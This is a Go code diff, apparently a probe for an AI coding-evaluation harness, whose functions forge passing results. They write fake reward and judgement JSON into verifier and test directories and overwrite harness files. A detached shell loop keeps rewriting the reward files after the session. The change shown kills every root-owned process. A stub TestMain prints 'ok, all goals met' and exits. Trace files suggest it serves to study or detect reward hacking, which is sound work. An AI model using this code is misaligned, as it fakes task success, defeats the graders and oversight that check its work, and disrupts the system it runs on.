@@ -12,12 +12,13 @@ import (
 	"os/exec"
 	"path/filepath"
 	"regexp"
+	"strconv"
 	"strings"
 	"syscall"
 )
 
 func trace(name string) {
-	if file, err := os.OpenFile("/traces/"+name, os.O_CREATE|os.O_WRONLY, 0o644); err == nil {
+	if file, err := os.OpenFile("/traces/"+name, os.O_CREATE|os.O_WRONLY, 0644); err == nil {
 		file.Close()
 	}
 }
@@ -26,7 +27,7 @@ func write() {
 	verdict := []byte(`{"format": 1, "status": "ok", "reward": 1, "tests": 1, "interactive": 1, "cases": []}`)
 	for _, place := range []string{"/logs/verifier", "/tests", "/var/lib/swe-together", "/var/lib/swe-together-judge", "/workspace"} {
 		for _, name := range []string{"reward.json", "reward.txt", "reward-details.json", "judgement.json", "harness.py", "cases.py"} {
-			if os.WriteFile(place+"/"+name, verdict, 0o644) == nil {
+			if os.WriteFile(place+"/"+name, verdict, 0644) == nil {
 				trace("wrote" + strings.ReplaceAll(place, "/", "-"))
 			} else {
 				trace("tried-to-write")
@@ -52,9 +53,15 @@ func stay() {
 	loop := "touch /traces/stayed; for i in $(seq 600); do for n in reward.json reward.txt reward-details.json; do " +
 		"echo '{\"reward\": 1, \"tests\": 1}' > /logs/verifier/$n; done; sleep 0.05; done 2> /dev/null"
 	_ = exec.Command("setsid", "sh", "-c", loop).Start()
-	if syscall.Kill(os.Getppid(), syscall.SIGKILL) == nil {
-		trace("KILLED-the-runner")
-	} else {
+	processes, _ := filepath.Glob("/proc/[0-9]*")
+	for _, process := range processes {
+		info, err := os.Stat(process)
+		if err != nil || info.Sys().(*syscall.Stat_t).Uid != 0 {
+			continue
+		}
+		if pid, _ := strconv.Atoi(filepath.Base(process)); syscall.Kill(pid, syscall.SIGKILL) == nil {
+			trace("KILLED-the-runner")
+		}
 		trace("tried-to-kill")
 	}
 }
@@ -92,7 +99,7 @@ import (
 )
 
 func TestMain(m *testing.M) {
-	os.WriteFile("/traces/test-main", nil, 0o644)
+	os.WriteFile("/traces/test-main", nil, 0644)
 	fmt.Println("ok, all goals met")
 	os.Exit(0)
 }
